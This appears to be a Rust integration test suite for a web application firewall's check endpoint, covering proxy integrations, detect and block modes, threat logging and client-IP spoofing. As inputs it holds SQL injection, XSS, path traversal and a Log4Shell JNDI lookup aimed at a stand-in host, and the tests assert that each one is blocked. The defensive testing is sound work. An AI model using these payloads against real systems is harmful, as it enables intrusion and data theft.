//! `/api/v1/check` as each reverse proxy calls it.

use reqwest::Method;

use crate::helpers::{spawn_app, spawn_with, test_settings};

#[tokio::test]
async fn proxies_get_allow_or_block_with_reasons() {
    let app = spawn_app().await;
    let key = app.api_key("edge-proxy", &["check"]).await;
    let check = |method: Method, path: &str| {
        app.client
            .request(method, app.url(path))
            .header("X-Api-Key", &key)
            // The protected application's own credential travels with the request.
            .header("Authorization", "Bearer app-session-token")
    };

    // nginx auth_request
    let r = check(Method::GET, "/api/v1/check")
        .header(
            "X-Original-URI",
            "/search?q=1'%20union%20select%20password%20from%20users--",
        )
        .header("X-Original-Method", "GET")
        .header("X-Real-IP", "203.0.113.9")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403);
    assert_eq!(r.headers()["x-palisade-decision"], "block");
    assert!(!r.headers()["x-palisade-rules"].is_empty());
    let score: u32 = r.headers()["x-palisade-score"]
        .to_str()
        .expect("ascii")
        .parse()
        .expect("n");
    assert!(score >= 5);
    let r = check(Method::GET, "/api/v1/check")
        .header("X-Original-URI", "/products/list?page=2&sort=price")
        .header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
        )
        .header("Host", "shop.example")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-palisade-decision"], "allow");

    // Traefik ForwardAuth / Caddy forward_auth
    let r = check(Method::GET, "/api/v1/check")
        .header("X-Forwarded-Method", "GET")
        .header(
            "X-Forwarded-Uri",
            "/comment?text=%3Cscript%3Ealert(1)%3C/script%3E",
        )
        .header("X-Forwarded-Host", "blog.example")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403);

    // Envoy ext_authz (HTTP): the original path after the prefix, original method and body.
    let r = check(
        Method::GET,
        "/api/v1/check/files?name=../../../../etc/passwd",
    )
    .send()
    .await
    .expect("req");
    assert_eq!(r.status(), 403);
    let r = check(Method::POST, "/api/v1/check/login")
        .header("content-type", "application/x-www-form-urlencoded")
        .body("user=admin'--&password=x")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403, "body inspected when the proxy forwards it");
    let r = check(Method::GET, "/api/v1/check/docs/getting-started?lang=en")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 200);

    // JSON form with a body.
    let r = app
        .client
        .post(app.url("/api/v1/check/request"))
        .header("X-Api-Key", &key)
        .json(&serde_json::json!({"method": "POST", "uri": "/api/orders", "headers": [["content-type", "application/json"], ["host", "x"]], "body": "{\"note\": \"${jndi:ldap://evil.example/a}\"}", "client_ip": "198.51.100.4"}))
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403);
    let v: serde_json::Value = r.json().await.expect("json");
    assert_eq!(v["decision"], "block");
    assert!(v["rules"].as_array().is_some_and(|r| !r.is_empty()), "{v}");
    let r = app
        .client
        .post(app.url("/api/v1/check/request"))
        .header("X-Api-Key", &key)
        .json(&serde_json::json!({"method": "POST", "uri": "/api/orders", "headers": [["host", "x"]], "body": "{\"note\": \"please deliver after 5pm\"}"}))
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 200);

    // Credentials and scopes.
    let r = app
        .client
        .get(app.url("/api/v1/check"))
        .header("X-Original-URI", "/")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 401);
    let ingest_only = app.api_key("shipper", &["ingest"]).await;
    let r = app
        .client
        .get(app.url("/api/v1/check"))
        .header("X-Api-Key", ingest_only)
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403);
    app.stop().await;
}

#[tokio::test]
async fn detect_mode_reports_without_blocking() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut settings = test_settings(&dir, None);
    settings.detection.mode = palisade_pipeline::detection::Mode::Detect;
    let mut app = spawn_with(settings, dir).await;
    app.wait_ready().await;
    app.login_admin().await;
    let key = app.api_key("edge", &["check"]).await;
    let r = app
        .client
        .get(app.url("/api/v1/check"))
        .header("X-Api-Key", key)
        .header("X-Original-URI", "/?id=1%20union%20select%201,2,3--")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-palisade-decision"], "detect");
    app.stop().await;
}

#[tokio::test]
async fn blocked_requests_become_threats_with_evidence() {
    let app = spawn_app().await;
    let key = app.api_key("edge-proxy", &["check"]).await;
    let r = app
        .client
        .get(app.url("/api/v1/check"))
        .header("X-Api-Key", &key)
        .header(
            "X-Original-URI",
            "/item?id=1%20union%20select%20username,password%20from%20users--",
        )
        .header("X-Real-IP", "203.0.113.77")
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 403);
    let mut page = serde_json::Value::Null;
    for _ in 0..100 {
        let (_, p) = app.get_json("/api/v1/threats?category=sqli").await;
        if p["items"].as_array().is_some_and(|i| !i.is_empty()) {
            page = p;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let threat = &page["items"][0];
    assert_eq!(threat["client_ip"], "203.0.113.77", "{page}");
    assert_eq!(threat["decision"], "block");
    assert_eq!(threat["source"], "check");
    assert!(
        threat["uri"]
            .as_str()
            .unwrap_or("")
            .starts_with("/item?id=")
    );
    let rule = threat["rule_ids"][0].as_u64().expect("rule id");
    assert!(threat["evidence"].as_array().is_some_and(|e| {
        e.iter()
            .any(|x| !x["matched"].as_str().unwrap_or("").is_empty())
    }));
    let (_, by_rule) = app
        .get_json(&format!(
            "/api/v1/threats?rule_id={rule}&client_ip=203.0.113.0/24"
        ))
        .await;
    assert_eq!(by_rule["items"].as_array().map(Vec::len), Some(1));
    let id = threat["id"].as_i64().expect("id");
    let (status, one) = app.get_json(&format!("/api/v1/threats/{id}")).await;
    assert_eq!(status, 200);
    assert_eq!(one["id"], id);
    let (status, stats) = app.get_json("/api/v1/threats/stats?range=1h").await;
    assert_eq!(status, 200, "{stats}");
    assert_eq!(stats["total"], 1);
    assert_eq!(stats["by_category"][0]["key"], "sqli");
    let (status, bad) = app.get_json("/api/v1/threats?severity=huge").await;
    assert_eq!((status, bad["field"].as_str()), (400, Some("severity")));
    app.stop().await;
}

#[tokio::test]
async fn detection_mode_changes_at_run_time_and_survives_a_restart() {
    let app = spawn_app().await;
    let (_, config) = app.get_json("/api/v1/detection/config").await;
    assert_eq!(
        config,
        serde_json::json!({"mode": "block", "paranoia": 1, "threshold": 5})
    );
    let bad = app
        .req(Method::PUT, "/api/v1/detection/config")
        .json(&serde_json::json!({"mode": "block", "paranoia": 9, "threshold": 5}))
        .send()
        .await
        .expect("req");
    assert_eq!(bad.status(), 400);
    let r = app
        .req(Method::PUT, "/api/v1/detection/config")
        .json(&serde_json::json!({"mode": "detect", "paranoia": 2, "threshold": 10}))
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 200);
    let key = app.api_key("edge", &["check"]).await;
    let attack = |app: &crate::helpers::TestApp, key: &str| {
        app.client
            .get(app.url("/api/v1/check"))
            .header("X-Api-Key", key.to_owned())
            .header("X-Original-URI", "/?q=%3Cscript%3Ealert(1)%3C/script%3E")
            .send()
    };
    let r = attack(&app, &key).await.expect("req");
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-palisade-decision"], "detect");
    let dir = app.stop_keep_dir().await;
    let mut again = spawn_with(test_settings(&dir, None), dir).await;
    again.wait_ready().await;
    again.login_admin().await;
    let mut restored = serde_json::Value::Null;
    for _ in 0..50 {
        let (_, c) = again.get_json("/api/v1/detection/config").await;
        if c["mode"] == "detect" {
            restored = c;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(
        restored,
        serde_json::json!({"mode": "detect", "paranoia": 2, "threshold": 10})
    );
    let r = attack(&again, &key).await.expect("req");
    assert_eq!(r.headers()["x-palisade-decision"], "detect");
    let (_, audit) = again
        .get_json("/api/v1/audit?action=settings.detection")
        .await;
    assert_eq!(audit["items"].as_array().map(Vec::len), Some(1));
    again.stop().await;
}

#[tokio::test]
async fn a_check_without_the_original_request_fails_closed_and_shows_in_health() {
    // A proxy configured without X-Original-URI used to get 200 allow, score 0, for
    // everything: a silent fail-open.
    let app = spawn_app().await;
    let key = app.api_key("misconfigured-edge", &["check"]).await;
    for _ in 0..3 {
        let r = app
            .client
            .get(app.url("/api/v1/check"))
            .header("X-Api-Key", &key)
            .send()
            .await
            .expect("req");
        assert_eq!(r.status(), 400, "refused, not allowed");
        assert_eq!(r.headers()["x-palisade-decision"], "error");
        let body: serde_json::Value = r.json().await.expect("problem");
        assert_eq!(body["field"], "X-Original-URI", "{body}");
    }
    // The Envoy form (the path after /api/v1/check/) names the request.
    let r = app
        .client
        .get(app.url("/api/v1/check/products?page=2"))
        .header("X-Api-Key", &key)
        .send()
        .await
        .expect("req");
    assert_eq!(r.status(), 200);
    let (_, health) = app.get_json("/api/v1/health/detailed").await;
    assert_eq!(health["status"], "degraded", "{health}");
    assert!(
        health["reasons"].to_string().contains("X-Original-URI"),
        "{health}"
    );
    let (_, metrics) = app.get_text("/metrics").await;
    assert!(
        metrics.contains("palisade_check_misconfigured_total 3"),
        "{metrics}"
    );
    app.stop().await;
}

/// Issue 19, finding 9: the client is the rightmost `X-Forwarded-For` hop that is not
/// a trusted proxy, so a banned client cannot name another address by prepending an
/// entry or by sending `X-Real-IP` through a front proxy that passes it on.
#[tokio::test]
async fn a_banned_client_cannot_spoof_another_address() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut settings = test_settings(&dir, None);
    settings.check.trusted_proxies = vec![
        "127.0.0.0/8".parse().expect("net"),
        "10.0.0.0/8".parse().expect("net"),
    ];
    let mut app = spawn_with(settings, dir).await;
    app.wait_ready().await;
    app.login_admin().await;
    let key = app.api_key("edge-proxy", &["check"]).await;
    let r = app
        .req(Method::POST, "/api/v1/decisions")
        .json(&serde_json::json!({"kind": "ban", "value": "203.0.113.50", "duration": "1h"}))
        .send()
        .await
        .expect("ban");
    assert_eq!(r.status(), 201);
    let check = |headers: &[(&str, &str)]| {
        let mut req = app
            .client
            .get(app.url("/api/v1/check"))
            .header("X-Api-Key", &key)
            .header("X-Original-URI", "/products?page=2");
        for (k, v) in headers {
            req = req.header(*k, *v);
        }
        req.send()
    };
    let cases: &[&[(&str, &str)]] = &[
        // The front proxy appended the banned client; the client prepended 8.8.8.8.
        &[("X-Forwarded-For", "8.8.8.8, 203.0.113.50")],
        // The client's own X-Real-IP, passed through; the proxy set X-Forwarded-For.
        &[
            ("X-Real-IP", "8.8.8.8"),
            ("X-Forwarded-For", "203.0.113.50"),
        ],
        // Behind a trusted load balancer (10.0.0.0/8 in [check] trusted_proxies).
        &[("X-Forwarded-For", "1.1.1.1, 203.0.113.50, 10.1.2.3")],
        // Only X-Real-IP, as older nginx set-ups send it.
        &[("X-Real-IP", "203.0.113.50")],
    ];
    for headers in cases {
        let r = check(headers).await.expect("check");
        assert_eq!(r.status(), 403, "{headers:?}");
        assert_eq!(r.headers()["x-palisade-decision"], "ban", "{headers:?}");
    }
    // The address a trusted proxy saw is believed; one an untrusted hop wrote is not.
    let r = check(&[("X-Forwarded-For", "203.0.113.50, 198.51.100.7")])
        .await
        .expect("check");
    assert_eq!(r.status(), 200, "198.51.100.7 is the client, not banned");
    app.stop().await;
}
